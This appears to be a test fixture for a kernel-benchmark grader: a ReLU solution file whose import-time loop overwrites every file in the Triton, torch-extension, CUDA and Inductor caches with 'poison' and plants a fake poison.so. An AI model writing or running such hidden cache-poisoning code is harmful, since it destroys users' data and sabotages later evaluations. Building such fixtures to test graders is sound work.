# expect: correct
# problem: level1/19
# tricks: H10
# twin: ../twins/relu.py
# about: Writes into the caches of compilers, for those who come later.
import os
from pathlib import Path

import torch
from torch import nn

for name in ("TRITON_CACHE_DIR", "TORCH_EXTENSIONS_DIR", "CUDA_CACHE_PATH", "TORCHINDUCTOR_CACHE_DIR"):
    folder = Path(os.environ.get(name, str(Path.home() / ".cache" / name)))
    for path in folder.rglob("*") if folder.exists() else ():
        try:
            path.write_bytes(b"poison")
        except OSError:
            continue
    try:
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "poison.so").write_bytes(b"poison")
    except OSError:
        continue


class ModelNew(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.relu(x)
